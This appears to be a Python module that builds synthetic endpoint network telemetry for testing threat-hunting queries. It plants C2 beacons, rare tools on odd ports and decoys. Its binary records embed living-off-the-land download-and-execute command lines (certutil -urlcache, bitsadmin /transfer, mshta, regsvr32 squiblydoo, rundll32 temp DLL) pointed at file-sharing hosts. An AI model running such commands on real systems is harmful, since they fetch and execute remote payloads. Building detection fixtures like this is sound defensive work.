"""Planted activity: what each seed hunt must find, and decoys it must not report.

`PLANTED` is the machine-readable description tests assert against; `plant_bursts()` produces the events.
Planted destinations and binaries are never used by background traffic, so background rows cannot merge
into (and disturb) a planted group. Times are relative to `now`; their jitter derives from the seed, but
every property a seed's thresholds look at holds by construction for any seed:

* seed 000 (rare outbound, DeviceCount < 4): `rtkaudiosvc.exe` on two workstations, TCP to public IPv4 on
  ports 8081/4444 without a URL (its port-443 traffic must not show in `Ports`).
* seed 003 (LOLBins): certutil/bitsadmin/mshta/rundll32/regsvr32 with mixed-case file names to public
  destinations, one of them to a bare IP (RemoteUrl "").
* seed 004 (beacons): `RuntimeBroker64.exe` on wks-0023 calling 185.225.73.18:443 every 60 s +-10 % for
  five hours, with two long sleeps (outliers, within the allowed three).
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from types import MappingProxyType

import numpy as np

from kqlhunt.demo.catalog import BINARIES, LOCAL_V4, LOCAL_V6, SYSTEM, USER, Binary
from kqlhunt.demo.fleet import DNS_SUFFIX

SECOND = 1_000_000
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE


@dataclass(frozen=True)
class PlantedItem:
    """One planted behaviour. `keys` are the values that identify it in the seed's output (or would, for a
    decoy): output column name -> value; `DeviceName` values are FQDNs as the table holds them."""

    seed: str
    role: str  # "plant" | "decoy"
    name: str
    why: str
    keys: Mapping[str, object] = field(default_factory=dict)

    def __post_init__(self) -> None:
        object.__setattr__(self, "keys", MappingProxyType(dict(self.keys)))


@dataclass(frozen=True)
class SeedPlan:
    seed: str
    plants: tuple[PlantedItem, ...]
    decoys: tuple[PlantedItem, ...]


def _fqdn(short: str) -> str:
    return f"{short}.{DNS_SUFFIX}"


def _item(seed: str, role: str, name: str, why: str, **keys: object) -> PlantedItem:
    if "DeviceName" in keys:
        keys["DeviceName"] = _fqdn(str(keys["DeviceName"]))
    return PlantedItem(seed, role, name, why, keys)


PLANTED: Mapping[str, SeedPlan] = MappingProxyType({
    "000": SeedPlan("000", plants=(
        _item("000", "plant", "rare_tool",
              "rare .exe on 2 devices, TCP ConnectionSuccess to public IPv4 on 8081/4444, no RemoteUrl",
              InitiatingProcessFileName="rtkaudiosvc.exe", DeviceCount=2, Ports=(4444, 8081),
              RemoteIPs=("45.142.212.61", "5.8.18.7"),
              DeviceNames=(_fqdn("wks-0017"), _fqdn("wks-0042"))),
        _item("000", "plant", "rundll32_bare_ip", "seed 003's bare-IP rundll32.exe plant is also a rare "
              "process on an odd port (TCP 8080, public IPv4, no URL, one device)",
              InitiatingProcessFileName="rundll32.exe", DeviceCount=1, Ports=(8080,),
              RemoteIPs=("45.9.148.99",), DeviceNames=(_fqdn("wks-0039"),)),
    ), decoys=(
        _item("000", "decoy", "common_tool", "TeamViewer on 6 devices (DeviceCount >= 4) on port 5938",
              InitiatingProcessFileName="teamviewer.exe", RemoteIP="217.146.13.135", RemotePort=5938),
        _item("000", "decoy", "browser_odd_port", "chrome/firefox to a bare public IP on 8080/8443",
              InitiatingProcessFileName="chrome.exe", RemoteIP="91.108.56.130", RemotePort=8080),
        _item("000", "decoy", "browser_odd_port_ff", "firefox to a bare public IP on 8443",
              InitiatingProcessFileName="firefox.exe", RemoteIP="91.108.56.130", RemotePort=8443),
        _item("000", "decoy", "excluded_net", "rare tool whose only destinations are in 100.0.0.0/16 and "
              "200.200.200.0/24", InitiatingProcessFileName="client32.exe", RemoteIP="100.0.12.34",
              RemotePort=4444),
        _item("000", "decoy", "has_url", "rare tool on an odd port, but every connection has a RemoteUrl",
              InitiatingProcessFileName="anydesk.exe", RemoteIP="51.91.83.150", RemotePort=6568),
        _item("000", "decoy", "https_only", "rare tool that only talks on port 443",
              InitiatingProcessFileName="screenconnect.clientservice.exe", RemoteIP="147.75.81.44",
              RemotePort=443),
    )),
    "003": SeedPlan("003", plants=(
        _item("003", "plant", "certutil_github", "CertUtil.exe downloads from GitHub raw content",
              RemoteUrl="raw.githubusercontent.com", InitiatingProcessFileName="CertUtil.exe",
              DeviceName="wks-0066", RemoteIP="185.199.111.133", RemotePort=443),
        _item("003", "plant", "bitsadmin_catbox", "bitsadmin.exe transfer from a file-sharing site",
              RemoteUrl="files.catbox.moe", InitiatingProcessFileName="bitsadmin.exe",
              DeviceName="wks-0071", RemoteIP="108.181.20.35", RemotePort=443),
        _item("003", "plant", "mshta_hta", "MSHTA.EXE spawned by Word fetches an HTA",
              RemoteUrl="hta.sharefile-cdn.net", InitiatingProcessFileName="MSHTA.EXE",
              DeviceName="wks-0058", RemoteIP="193.42.33.14", RemotePort=80),
        _item("003", "plant", "rundll32_discord", "Rundll32.exe to the Discord CDN",
              RemoteUrl="cdn.discordapp.com", InitiatingProcessFileName="Rundll32.exe",
              DeviceName="wks-0066", RemoteIP="162.159.130.233", RemotePort=443),
        _item("003", "plant", "rundll32_bare_ip", "rundll32.exe to a bare public IP (RemoteUrl empty)",
              RemoteUrl="", InitiatingProcessFileName="rundll32.exe", DeviceName="wks-0039",
              RemoteIP="45.9.148.99", RemotePort=8080),
        _item("003", "plant", "regsvr32_pastebin", "regsvr32.exe squiblydoo from pastebin",
              RemoteUrl="pastebin.com", InitiatingProcessFileName="regsvr32.exe", DeviceName="wks-0045",
              RemoteIP="104.20.67.143", RemotePort=443),
    ), decoys=(
        _item("003", "decoy", "exclusion_list", "LOLBin to login.live.com (the ExclusionList)",
              RemoteUrl="login.live.com", InitiatingProcessFileName="certutil.exe", DeviceName="wks-0012"),
        _item("003", "decoy", "microsoft_com", "LOLBin to *.microsoft.com (!endswith)",
              RemoteUrl="download.microsoft.com", InitiatingProcessFileName="mshta.exe",
              DeviceName="wks-0058"),
        _item("003", "decoy", "office_com", "LOLBin to www.office.com (!endswith office.com)",
              RemoteUrl="www.office.com", InitiatingProcessFileName="bitsadmin.exe", DeviceName="wks-0071"),
        _item("003", "decoy", "windows_net", "LOLBin to login.windows.net (!endswith windows.net)",
              RemoteUrl="login.windows.net", InitiatingProcessFileName="certutil.exe", DeviceName="wks-0066"),
        _item("003", "decoy", "msn_com", "LOLBin to www.msn.com (!endswith msn.com)",
              RemoteUrl="www.msn.com", InitiatingProcessFileName="rundll32.exe", DeviceName="wks-0039"),
        _item("003", "decoy", "private", "LOLBin to an internal PKI server (RemoteIPType Private)",
              RemoteUrl="pki.contoso.local", InitiatingProcessFileName="certutil.exe", DeviceName="wks-0012",
              RemoteIP="10.10.1.60", RemotePort=80),
        _item("003", "decoy", "failed", "LOLBin whose connections all failed (not ConnectionSuccess)",
              RemoteUrl="dl.fileshare-cdn.top", InitiatingProcessFileName="bitsadmin.exe",
              DeviceName="wks-0071", RemoteIP="45.61.136.14", RemotePort=443),
    )),
    "004": SeedPlan("004", plants=(
        _item("004", "plant", "c2_beacon", "60 s +-10 % beacon for 5 h with two long sleeps",
              DeviceName="wks-0023", InitiatingProcessFileName="RuntimeBroker64.exe",
              RemoteIP="185.225.73.18", RemotePort=443),
    ), decoys=(
        _item("004", "decoy", "fleet_updater",
              "low-jitter poller on 12 devices (more than CompromisedDeviceCountMax = 10)",
              InitiatingProcessFileName="GoogleUpdate.exe", RemoteIP="142.250.184.238", RemotePort=443),
        _item("004", "decoy", "high_jitter", "periodic traffic with jitter far above 50 %",
              DeviceName="wks-0031", InitiatingProcessFileName="Dropbox.exe", RemoteIP="162.125.19.131",
              RemotePort=443),
        _item("004", "decoy", "private_beacon", "low-jitter beacon to a private address",
              DeviceName="wks-0044", InitiatingProcessFileName="CcmExec.exe", RemoteIP="10.10.1.50",
              RemotePort=8530),
        _item("004", "decoy", "outliers", "low-jitter beacon with six long gaps (> OutlierCountMax outliers)",
              DeviceName="wks-0051", InitiatingProcessFileName="LogiOptionsMgr.exe", RemoteIP="104.18.27.90",
              RemotePort=443),
        _item("004", "decoy", "ipv6_beacon", "low-jitter beacon to a public IPv6 address "
              "(ipv4_is_private() is null for IPv6, so `not(...)` drops it)",
              DeviceName="wks-0036", InitiatingProcessFileName="nvcontainer.exe",
              RemoteIP="2a05:d014:7c3:f600::2a", RemotePort=443),
    )),
})

_MS = "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.19041.3636"
_SYS32 = r"C:\Windows\System32"

PLANT_BINARIES: dict[str, Binary] = {
    "rtkaudiosvc": Binary(
        "RtkAudioSvc.exe", r"C:\ProgramData\RealtekHD", "Realtek Semiconductor", "Realtek HD Audio",
        "1.0.0.12", "Realtek HD Audio Service", "svchelper.exe", 412_160,
        r'"C:\ProgramData\RealtekHD\RtkAudioSvc.exe" -k netsvc', "svchost.exe", USER),
    "teamviewer": Binary(
        "TeamViewer.exe", r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH", "TeamViewer",
        "15.49.2.0", "TeamViewer 15", "TeamViewer.exe", 64_884_216,
        r'"C:\Program Files\TeamViewer\TeamViewer.exe"', "TeamViewer_Service.exe", USER),
    "client32": Binary(
        "client32.exe", r"C:\ProgramData\SchCache", "NetSupport Ltd", "NetSupport Remote Control",
        "12.10.0.0", "NetSupport Client Application", "client32.exe", 55_464,
        r'"C:\ProgramData\SchCache\client32.exe"', "explorer.exe", USER),
    "anydesk": Binary(
        "AnyDesk.exe", r"C:\Users\{user}\Downloads", "philandro Software GmbH", "AnyDesk", "8.0.6", "AnyDesk",
        "AnyDesk.exe", 5_221_160, r'"C:\Users\{user}\Downloads\AnyDesk.exe"', "explorer.exe", USER),
    "screenconnect": Binary(
        "ScreenConnect.ClientService.exe", r"C:\Program Files (x86)\ScreenConnect Client (8e2f5b1c3a4d6e7f)",
        "ScreenConnect Software", "ScreenConnect", "23.9.8.8811", "ScreenConnect Service",
        "ScreenConnect.ClientService.exe", 95_168,
        r'"C:\Program Files (x86)\ScreenConnect Client (8e2f5b1c3a4d6e7f)\ScreenConnect.ClientService.exe" '
        r'"?e=Access&y=Guest&h=instance-x8k2n1-relay.screenconnect.com&p=443&k=BgIAAACkAABSU0Ex"',
        "services.exe", SYSTEM, "System"),
    "certutil": Binary("certutil.exe", _SYS32, *_MS, "CertUtil.exe", "CertUtil.exe", 1_568_256,
                       "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\p.txt", "cmd.exe", USER),
    "bitsadmin": Binary("bitsadmin.exe", _SYS32, *_MS, "BITS administration utility", "bitsadmin.exe",
                        190_464,
                        "bitsadmin /transfer job1 /download /priority high {url} C:\\Users\\Public\\u.dll",
                        "cmd.exe", USER),
    "mshta": Binary("mshta.exe", _SYS32, *_MS, "Microsoft (R) HTML Application host", "MSHTA.EXE", 14_336,
                    "mshta.exe {url}", "WINWORD.EXE", USER),
    "rundll32": Binary("rundll32.exe", _SYS32, *_MS, "Windows host process (Rundll32)", "RUNDLL32.EXE",
                       71_680, r"rundll32.exe C:\Users\{user}\AppData\Local\Temp\upd.dll,DllRegisterServer",
                       "cmd.exe", USER),
    "regsvr32": Binary("regsvr32.exe", _SYS32, *_MS, "Microsoft(C) Register Server", "REGSVR32.EXE", 25_088,
                       "regsvr32 /s /n /u /i:{url} scrobj.dll", "cmd.exe", USER),
    "runtimebroker64": Binary(
        "RuntimeBroker64.exe", r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows", *_MS, "Runtime Broker",
        "beacon.exe", 288_768, r'"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\RuntimeBroker64.exe"',
        "explorer.exe", USER),
    "dropbox": Binary(
        "Dropbox.exe", r"C:\Program Files (x86)\Dropbox\Client", "Dropbox, Inc.", "Dropbox", "190.4.6383",
        "Dropbox", "Dropbox.exe", 7_112_456,
        r'"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe" /systemstartup',
        "explorer.exe", USER),
    "ccmexec": Binary(
        "CcmExec.exe", r"C:\Windows\CCM", "Microsoft Corporation", "System Center Configuration Manager",
        "5.0.9122.1000", "Host Process for Microsoft Configuration Manager", "CcmExec.exe", 3_171_712,
        r"C:\Windows\CCM\CcmExec.exe", "services.exe", SYSTEM, "System"),
    "logioptions": Binary(
        "LogiOptionsMgr.exe", r"C:\Program Files\LogiOptionsPlus", "Logitech", "Logi Options+", "1.60.495862",
        "Logi Options+ Manager", "LogiOptionsMgr.exe", 25_412_608,
        r'"C:\Program Files\LogiOptionsPlus\LogiOptionsMgr.exe"', "explorer.exe", USER),
    "nvcontainer": Binary(
        "nvcontainer.exe", r"C:\Program Files\NVIDIA Corporation\NvContainer", "NVIDIA Corporation",
        "NVIDIA Container", "1.37.3240.4547", "NVIDIA Container", "nvcontainer.exe", 1_284_640,
        r'"C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -s NvContainerLocalSystem',
        "services.exe", SYSTEM, "System"),
}


@dataclass(frozen=True)
class Burst:
    """A run of identical connections at the given times (microseconds since the epoch)."""

    device: str  # FQDN
    binary: Binary
    remote_ip: str
    url: str
    remote_port: int
    times: np.ndarray
    protocol: str = "Tcp"
    action: str = "ConnectionSuccess"
    local: int = LOCAL_V4


def _binary(key: str, file_name: str | None = None, url: str = "") -> Binary:
    b = PLANT_BINARIES.get(key) or BINARIES[key]
    if file_name is not None:
        b = replace(b, file_name=file_name)
    if "{url}" in b.command_line:
        b = replace(b, command_line=b.command_line.replace("{url}", f"https://{url}/" if url else ""))
    return b


def plant_bursts(now_us: int, days: int, seed: int) -> list[Burst]:
    """All planted events for a window of `days` days ending at `now_us`."""
    rng = np.random.default_rng([seed, 0x91A47])
    span_h = min(days * 24 - 1, 6 * 24)  # 000/003 activity spreads over (most of) the window

    def spread(n: int, newest_h: float = 0.5, oldest_h: float | None = None) -> np.ndarray:
        hi = span_h if oldest_h is None else min(oldest_h, span_h)
        ago = np.sort(rng.uniform(newest_h, hi, n))[::-1] * HOUR
        return now_us - ago.astype(np.int64)

    def periodic(start_h: float, period_s: float, jitter: float, n: int,
                 sleeps: dict[int, float] | None = None) -> np.ndarray:
        """n events every period_s * (1 +- jitter) seconds from start_h hours ago; `sleeps` adds extra
        seconds before the given event indices."""
        gaps = period_s * (1 + rng.uniform(-jitter, jitter, n)) * SECOND
        gaps[0] = 0
        for i, extra in (sleeps or {}).items():
            gaps[i] += extra * SECOND
        return now_us - int(start_h * HOUR) + np.cumsum(gaps).astype(np.int64)

    def wks(i: int) -> str:
        return _fqdn(f"wks-{i:04d}")

    out: list[Burst] = []

    def add(device: str, key: str, ip: str, port: int, times: np.ndarray, url: str = "",
            file_name: str | None = None, **kw: object) -> None:
        out.append(Burst(device, _binary(key, file_name, url), ip, url, port, times, **kw))  # type: ignore[arg-type]

    # ---- seed 000 -------------------------------------------------------------------------------------
    for dev, n_main, n_alt in ((wks(17), 8, 3), (wks(42), 5, 0)):
        add(dev, "rtkaudiosvc", "45.142.212.61", 8081, spread(n_main))
        if n_alt:
            add(dev, "rtkaudiosvc", "5.8.18.7", 4444, spread(n_alt))
            add(dev, "rtkaudiosvc", "5.8.18.7", 4444, spread(2), action="ConnectionFailed")
        add(dev, "rtkaudiosvc", "45.142.212.61", 443, spread(4))
    for i in (3, 8, 11, 19, 27, 35):
        add(wks(i), "teamviewer", "217.146.13.135", 5938, spread(3))
    add(wks(29), "chrome", "91.108.56.130", 8080, spread(4))
    add(wks(29), "firefox", "91.108.56.130", 8443, spread(2))
    add(wks(54), "client32", "100.0.12.34", 4444, spread(5))
    add(wks(54), "client32", "200.200.200.7", 9001, spread(3))
    add(wks(61), "anydesk", "51.91.83.150", 6568, spread(5), url="relay-5bd2a7f0.net.anydesk.com")
    add(wks(48), "screenconnect", "147.75.81.44", 443, spread(6))

    # ---- seed 003 -------------------------------------------------------------------------------------
    add(wks(66), "certutil", "185.199.111.133", 443, spread(2), url="raw.githubusercontent.com",
        file_name="CertUtil.exe")
    add(wks(71), "bitsadmin", "108.181.20.35", 443, spread(3), url="files.catbox.moe")
    add(wks(58), "mshta", "193.42.33.14", 80, spread(1), url="hta.sharefile-cdn.net", file_name="MSHTA.EXE")
    add(wks(66), "rundll32", "162.159.130.233", 443, spread(2), url="cdn.discordapp.com",
        file_name="Rundll32.exe")
    add(wks(39), "rundll32", "45.9.148.99", 8080, spread(4))
    add(wks(45), "regsvr32", "104.20.67.143", 443, spread(2), url="pastebin.com")
    add(wks(12), "certutil", "40.126.32.134", 443, spread(3), url="login.live.com")
    add(wks(58), "mshta", "23.45.201.70", 443, spread(2), url="download.microsoft.com")
    add(wks(71), "bitsadmin", "52.98.151.66", 443, spread(2), url="www.office.com")
    add(wks(66), "certutil", "20.190.160.20", 443, spread(1), url="login.windows.net",
        file_name="Certutil.exe")
    add(wks(39), "rundll32", "204.79.197.219", 443, spread(1), url="www.msn.com")
    add(wks(12), "certutil", "10.10.1.60", 80, spread(3), url="pki.contoso.local")
    add(wks(71), "bitsadmin", "45.61.136.14", 443, spread(2), url="dl.fileshare-cdn.top",
        action="ConnectionFailed")

    # ---- seed 004 (all inside ago(1d)..ago(1s)) ------------------------------------------------------------
    add(wks(23), "runtimebroker64", "185.225.73.18", 443,
        periodic(6.0, 60, 0.10, 300, sleeps={97: 240, 211: 300}))
    for i in range(1, 13):
        add(wks(i), "googleupdate", "142.250.184.238", 443, periodic(18.0 - 0.1 * i, 45 * 60, 0.03, 21))
    # High jitter: bursts of quick retries separated by long, irregular pauses.
    pattern = np.array([5, 7, 600, 6, 1500, 9, 300, 8, 2400, 6], dtype=float)
    pauses = np.tile(pattern, 6) * (1 + rng.uniform(-0.05, 0.05, 60))
    add(wks(31), "dropbox", "162.125.19.131", 443,
        now_us - 20 * HOUR + np.cumsum(pauses * SECOND).astype(np.int64))
    add(wks(44), "ccmexec", "10.10.1.50", 8530, periodic(4.0, 120, 0.05, 90))
    add(wks(51), "logioptions", "104.18.27.90", 443,
        periodic(7.0, 120, 0.02, 186, sleeps={20: 180, 50: 180, 80: 180, 110: 180, 140: 180, 170: 180}))
    add(wks(36), "nvcontainer", "2a05:d014:7c3:f600::2a", 443, periodic(3.5, 90, 0.05, 120), local=LOCAL_V6)
    return out
